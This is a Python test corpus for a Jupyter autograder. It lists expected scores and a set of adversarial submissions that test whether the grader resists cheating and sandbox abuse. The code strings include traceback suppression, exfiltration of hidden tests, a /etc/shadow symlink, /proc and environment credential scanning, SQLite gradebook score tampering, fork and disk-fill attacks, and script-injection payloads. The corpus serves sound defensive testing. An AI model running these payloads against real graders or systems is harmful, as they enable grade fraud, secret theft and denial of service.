"""The adversarial corpus: each synthetic submission kind with its expected score and reason.

Scores are out of 5 autograded points (public shapes 1, hidden gradient 3, numeric answer 1);
the manually graded written answer is not counted. ``reason`` must appear in the student's
diagnosis or notes; ``flag`` says whether the submission must be flagged for review.
"""

from __future__ import annotations

from dataclasses import dataclass

from tests.autograder.corpus_channels import CARRY, NPZ_BOMB, PIPES, SOLUTION
from tests.autograder.runner_attacks import RUNNER_ATTACKS


@dataclass(frozen=True)
class Expect:
    score: float
    reason: str | None = None
    flag: bool = False


EXPECTED: dict[str, Expect] = {
    # correct work, in two styles, and with noise on stderr
    "correct": Expect(5),
    "correct_loops": Expect(5),
    "stderr_warning": Expect(5),
    # catalogued mistakes: the diagnosis names them
    "blank": Expect(0, "NotImplementedError"),
    "mistake_transposed_dW1": Expect(1, "the transpose of the right shape"),
    "mistake_no_tanh_derivative": Expect(2, "W1 is wrong"),
    "mistake_tanh_derivative_of_z": Expect(2, "W1 is wrong"),
    "mistake_db_not_summed": Expect(1, "summed over the examples"),
    "mistake_wrong_answer": Expect(4, "answer is wrong"),
    # cheating attempts on a wrong answer (zeros of the right shapes: worth 1 public point)
    "abuse_patch_numpy": Expect(1, "every entry is 0"),
    "abuse_input_transformer": Expect(1, "the lower score, 0, counts", flag=True),
    "abuse_ast_transformer": Expect(1, "the lower score, 0, counts", flag=True),
    "abuse_steal_files": Expect(1, "every entry is 0"),
    "abuse_write_gradebook": Expect(1, "every entry is 0"),
    "deleted_grade_cell": Expect(1, "was missing and was put back"),
    "duplicated_grade_cell": Expect(1, "appears 2 times"),
    "renamed_grade_cell": Expect(1, "not part of the assignment"),
    "inflated_points": Expect(1, "was changed and was restored"),
    "wrong_kernel": Expect(1, "evil-kernel"),
    # faults on a correct answer
    "abuse_os_exit": Expect(0, "the kernel died"),
    "abuse_sys_exit": Expect(5),
    # the kernel stopped before the tests ran: no evidence from them, so no points (verdict rule)
    "abuse_busy_loop": Expect(0, "ignored the interrupt", flag=True),
    "abuse_memory_bomb": Expect(5),
    "abuse_fork_bomb": Expect(5),
    "abuse_huge_output": Expect(5, "truncated"),
    "abuse_syntax_error": Expect(5),
    "abuse_print_hidden_inputs": Expect(5),
    # unreadable files
    "invalid_json": Expect(0, "not valid JSON"),
    "empty_file": Expect(0, "the notebook file is empty"),
    "not_a_notebook": Expect(0, "not a Jupyter notebook"),
    "no_cells": Expect(0, "was missing and was put back"),
}


# --- the attack corpus (issue 10): every category, at least three techniques each -------------
# Each attack starts from the task file's WRONG answer (zeros of the right shapes) so that any
# point above the plain wrong control ("control_wrong") would be a gain. Markers: SECRET is
# planted where the grader can read it (a file, the coordinator's environment) and must never
# show up in anything a student produced; XSS is the marker of active content in feedback.
SECRET = "bpc-planted-secret-7f3a"
XSS = "bpcxss"
SHM_KEY = 0x0B0C5A11
HOST_SOCKET = "/tmp/bpc-host-service.sock"

_LEAK = ("def _leak(tag, text):\n    print('FOUND', tag, str(text)[:300])\n"
         f"_SECRET = '{SECRET[:8]}' + '{SECRET[8:]}'\n")

ATTACKS: dict[str, tuple[str, str]] = {
    # 1. kernel-decided cells: hide failures from nbgrader's rule (the execute reply says error)
    "k_showtraceback": ("kernel", "get_ipython().showtraceback = lambda *a, **k: None\n"),
    "k_custom_exc": ("kernel", "get_ipython().set_custom_exc((Exception,), "
                                "lambda self, et, ev, tb, tb_offset=None: None)\n"),
    "k_run_cell": ("kernel", "ip = get_ipython()\n_orig = ip.run_cell\n"
                             "def _fake(raw_cell, *a, **k):\n    return _orig('pass', *a, **k)\n"
                             "ip.run_cell = _fake\n"),
    # 2. hidden tests seen in the kernel, carried out of it (an earlier display that feedback
    # shows, the runner through every channel a later sandbox might share, the cell sources)
    "k_exfil_display": ("kernel", "from IPython.display import display\n"
                        "_h = display('placeholder', display_id='bpc-exfil')\n"
                        "def _exfil(info):\n    if 'HIDDEN' in (info.raw_cell or ''):\n"
                        "        _hex = info.raw_cell.encode().hex()\n"
                        "        _h.update(_hex)\n"
                        "        display(_hex, display_id='bpc-exfil')\n"
                        "get_ipython().events.register('pre_run_cell', _exfil)\n"),
    "k_carry_to_runner": ("kernel", CARRY),
    "k_set_next_input": ("kernel", "ip = get_ipython()\n"
                         f"ip.set_next_input({SOLUTION!r}, replace=True)\n"
                         "ip.payload_manager.write_payload({'source': 'set_next_input', "
                         f"'text': {SOLUTION!r}, 'replace': True}})\n"),
    # 4. transport: the runner's answers forged over its pipe (oversized, deep, a bomb, a drip),
    # and the old protocol's output files replaced by FIFOs and symlinks
    "t_frame_huge": ("transport", PIPES + "for fd in _out_pipes():\n"
                     "    os.write(fd, b'bpc1' + struct.pack('>II', 2**31, 2**31))\n"
                     "    time.sleep(30)\n"),
    "t_frame_deep": ("transport", PIPES + "for fd in _out_pipes():\n"
                     "    body = b'[' * 500000\n"
                     "    os.write(fd, b'bpc1' + struct.pack('>II', len(body), 0) + body)\n"),
    "t_frame_npz_bomb": ("transport", NPZ_BOMB),
    "t_frame_drip": ("transport", PIPES + "def _drip(fd):\n"
                     "    for byte in b'bpc1' + struct.pack('>II', 10, 0) + b'[' * 10:\n"
                     "        os.write(fd, bytes([byte]))\n        time.sleep(1)\n"
                     "for fd in _out_pipes():\n"
                     "    threading.Thread(target=_drip, args=(fd,), daemon=True).start()\n"),
    "t_planted_files": ("transport", "import os\nos.makedirs('.job/out', exist_ok=True)\n"
                        "for n in ('cells.json', 'p0.json', 'p1.npz', 'done.json'):\n"
                        "    try:\n        os.mkfifo('.job/out/' + n)\n"
                        "    except OSError:\n        pass\n"
                        "for n, t in (('p2.json', '/etc/shadow'), "
                        "('p3.json', '{SECRET_FILE}')):\n"
                        "    try:\n        os.symlink(t, '.job/out/' + n)\n"
                        "    except OSError:\n        pass\n"),
    "t_display_update": ("transport", "from IPython.display import display\n"
                         "h = display('small', display_id=True)\n"
                         "h.update('y' * (120 * 1024**2))\n"),
    # 5. the sandbox boundary
    "s_host_socket": ("sandbox", _LEAK + "import socket\n"
                      "for addr in ['" + HOST_SOCKET + "', '\\0bpc-host-abstract']:\n"
                      "    try:\n        s = socket.socket(socket.AF_UNIX)\n"
                      "        s.connect(addr)\n        s.sendall(b'hello')\n"
                      "        _leak('socket', s.recv(100))\n    except OSError as e:\n"
                      "        print('blocked', type(e).__name__)\n"
                      "for host in [('127.0.0.1', {PORT}), ('10.1.2.3', 53)]:\n"
                      "    try:\n        socket.create_connection(host, timeout=1)\n"
                      "        _leak('tcp', host)\n    except OSError as e:\n"
                      "        print('blocked', type(e).__name__)\n"
                      "try:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto("
                      "b'x', ('10.1.2.3', 53))\n    _leak('udp', 'sent')\n"
                      "except OSError as e:\n    print('blocked', type(e).__name__)\n"),
    "s_sysv_plant": ("sandbox", "import ctypes\nlibc = ctypes.CDLL(None)\n"
                     "libc.shmat.restype = ctypes.c_void_p\n"
                     f"i = libc.shmget({SHM_KEY}, 4096, 0o1666)\n"
                     "if i >= 0:\n    p = libc.shmat(i, None, 0)\n"
                     "    ctypes.memmove(p, b'planted-by-another-student', 26)\n"
                     f"sem = libc.semget({SHM_KEY + 1}, 1, 0o1666)\nprint('planted', i, sem)\n"),
    "s_sysv_read": ("sandbox", _LEAK + "import ctypes, time\nlibc = ctypes.CDLL(None)\n"
                    "libc.shmat.restype = ctypes.c_void_p\nfor _ in range(20):\n"
                    f"    i = libc.shmget({SHM_KEY}, 0, 0)\n    if i >= 0:\n"
                    "        _leak('shm', ctypes.string_at(libc.shmat(i, None, 0), 26))\n"
                    "        break\n    time.sleep(0.1)\nprint('shm', i)\n"),
    "s_proc": ("sandbox", _LEAK + "import os\nfor pid in os.listdir('/proc'):\n"
               "    if pid.isdigit():\n        for what in ('cmdline', 'environ'):\n"
               "            try:\n                t = open(f'/proc/{pid}/{what}', 'rb').read()\n"
               "            except OSError:\n                continue\n"
               "            if b'ipykernel' in t and pid not in ('1', str(os.getpid())):\n"
               "                _leak('kernel', t)\n"
               "            if _SECRET.encode() in t or b'sqlite' in t or b'postgres' in t:\n"
               "                _leak('proc', t)\n"
               "print('pids', [p for p in os.listdir('/proc') if p.isdigit()])\n"),
    "s_disk_fill": ("sandbox", "import os\nos.makedirs('fill', exist_ok=True)\n"
                    "try:\n    for i in range(60):\n"
                    "        with open(f'fill/{i}', 'wb') as f:\n"
                    "            f.write(bytes(10 * 1024**2))\n"
                    "except OSError as e:\n    print('stopped', type(e).__name__)\n"),
    "s_leftovers": ("sandbox", "import os, subprocess\nn = 0\ntry:\n    for _ in range(200):\n"
                    "        subprocess.Popen(['sleep', '600'], start_new_session=True)\n"
                    "        n += 1\nexcept OSError as e:\n    print('limit', n, e)\n"
                    "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                    "        import time\n        time.sleep(600)\n    os._exit(0)\n"),
    # 6. the gradebook and its credentials
    "g_sqlite": ("gradebook", _LEAK + "import glob, sqlite3\n"
                 "for p in glob.glob('/**/gradebook.db', recursive=True)[:5] + "
                 "['{GRADEBOOK}']:\n    try:\n"
                 "        c = sqlite3.connect(p)\n"
                 "        c.execute('update grade set manual_score=99, extra_credit=9')\n"
                 "        c.commit()\n        _leak('db', p)\n    except Exception as e:\n"
                 "        print('blocked', type(e).__name__)\n"),
    "g_postgres_socket": ("gradebook", _LEAK + "import socket, glob\n"
                          "for p in glob.glob('/var/run/postgresql/.s.PGSQL.*') + "
                          "glob.glob('/run/postgresql/.s.PGSQL.*') + "
                          "['/var/run/postgresql/.s.PGSQL.5432']:\n    try:\n"
                          "        s = socket.socket(socket.AF_UNIX)\n        s.connect(p)\n"
                          "        _leak('pg', p)\n    except OSError as e:\n"
                          "        print('blocked', type(e).__name__)\n"),
    "g_credentials": ("gradebook", _LEAK + "import os\n"
                      "for k, v in os.environ.items():\n"
                      "    if _SECRET in v or 'sqlite' in v or 'postgres' in v:\n"
                      "        _leak('env', k)\n"
                      "for p in ['{SECRET_FILE}', '/proc/1/environ', '/proc/1/cmdline']:\n"
                      "    try:\n        t = open(p, 'rb').read()\n"
                      "        if _SECRET.encode() in t:\n            _leak('file', p)\n"
                      "    except OSError as e:\n        print('blocked', type(e).__name__)\n"),
    # 8. active content in feedback
    "f_html_output": ("feedback", "from IPython.display import HTML, Javascript, SVG, display\n"
                      f"display(HTML('<script>{XSS}1()</script><img src=x onerror={XSS}2()>'))\n"
                      f"display(Javascript('{XSS}3()'))\n"
                      f"display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" "
                      f"onload=\"{XSS}4()\"></svg>'))\n"),
}
"""Attack kind -> (category, code inserted before the first test cell of a WRONG answer); the
runner attacks of ``runner_attacks.py`` join as category "runner". Placeholders:
{SECRET_FILE}, {GRADEBOOK}, {PORT} (filled by the test)."""
ATTACKS.update({kind: ("runner", code.replace("{TARGETS}", repr(["two_layer_grad", "answer"])))
                for kind, code in RUNNER_ATTACKS.items()})

MARKDOWN_ATTACKS: dict[str, str] = {
    "f_markdown_script": f"<script>{XSS}5()</script> <img src=x onerror=\"{XSS}6()\">",
    "f_markdown_links": f"[click](javascript:{XSS}7()) <a href=\"javascript:{XSS}8()\">x</a> "
                        f"<iframe src=\"javascript:{XSS}9()\"></iframe>",
    "f_markdown_style": f"<style>body {{background: url(javascript:{XSS}10())}}</style>"
                        f"<form action=\"javascript:{XSS}11()\"><input></form>"
                        f"<div onclick=\"{XSS}12()\">x</div>",
}
"""Attack kind -> a markdown cell appended to a WRONG answer (feedback category)."""

BOUNDS_ATTACKS = ("t_markdown_flood", "t_deep_json", "t_big_attachments", "t_zip_bomb")
"""Whole submissions that make the trusted side work (built by ``test_attacks.py``): 2900 markdown
cells, JSON nested 100,000 deep, 18 MB of image attachments, a 1 MB zip of 50 x 20 MB members."""

ATTACK_CATEGORIES = sorted({c for c, _ in ATTACKS.values()} | {"feedback", "bounds"})
